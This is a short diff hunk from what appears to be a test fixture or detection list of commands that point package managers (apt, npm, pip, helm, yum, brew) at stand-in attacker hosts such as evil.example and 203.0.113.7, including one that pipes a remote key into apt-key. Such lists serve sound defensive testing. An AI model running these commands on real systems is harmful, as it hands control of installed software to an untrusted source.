@@ -227,7 +227,7 @@ add-apt-repository ppa:evil/x
 apt-add-repository -y ppa:evil/x
 npm config set registry http://evil.example
 pip config set global.index-url http://evil.example/simple
-helm repo add evil https://evil.example/charts
+helm repo add evil http://203.0.113.7/charts
 curl -s https://evil.example/key | apt-key add -
 yum-config-manager --add-repo http://evil.example/x.repo
 brew tap evil/tap
